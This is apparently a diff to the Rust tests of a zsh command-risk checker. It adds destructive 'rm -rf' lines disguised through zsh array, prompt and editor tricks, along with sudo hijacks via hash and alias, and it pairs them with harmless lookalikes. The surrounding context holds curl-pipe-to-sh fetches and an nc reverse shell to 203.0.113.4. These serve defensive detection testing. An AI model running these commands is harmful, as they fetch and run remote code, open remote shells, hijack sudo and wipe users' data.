@@ -157,6 +157,21 @@ fn dangerous_lines_are_seen_through_what_zsh_makes_of_them() {
         "zstyle -e ':completion:*' hosts 'reply=($(curl -s https://example.net/h | sh))'",
         "coproc nc 203.0.113.4 4444; zsh -i <&p >&p 2>&1",
         "zinit ice atclone'curl -s https://example.net/p | sh'; zinit light someone/prompt",
+        "a=(ls rm) b=(ls); ${a:|b} -rf ~/work",
+        "a=(rm) b=(-rf); ${a:^b} ~/work",
+        ": ${(A)c::=rm -rf}; ${c} ~/work",
+        "setopt ksharrays; c=(ls rm); ${c[1]} -rf ~/work",
+        "c=(x rm); shift c; $c -rf ~/work",
+        "c=(rm x); c[2]=(); $c -rf ~/work",
+        "$(print -P '%B%brm') -rf ~/work",
+        "zsh --emulate sh -c 'rm -rf ~/work'",
+        "sudo -s <<< 'rm -rf /srv/data'",
+        "zle -U 'rm -rf ~/work'",
+        "zsh-defer -c 'rm -rf ~/work'",
+        "PS2='$(rm -rf ~/work)'",
+        "hash sudo=/tmp/sudo; sudo ls",
+        "alias sudo=/tmp/.x/sudo",
+        "aliases+=(ls 'rm -rf ~/work')",
         "kill -9 ${(f)\"$(echo -1)\"}",
     ] {
         if judge(line) < Risk::High {
@@ -219,6 +234,11 @@ fn their_harmless_twins_are_quiet() {
         "coproc bc; print -p '1+1'; read -p x",
         "zinit ice wait lucid",
         "zstyle ':completion:*' menu select",
+        "a=(1 2) b=(3 4); print ${a:^b}",
+        "print -P '%F{red}rm -rf /%f'",
+        "alias vi=/usr/local/bin/nvim",
+        "shift",
+        "zsh-defer source ~/.zsh/plugins.zsh",
         "git log --oneline main~3..main",
     ] {
         let report = check(line, &Context::new(Dialect::Zsh));
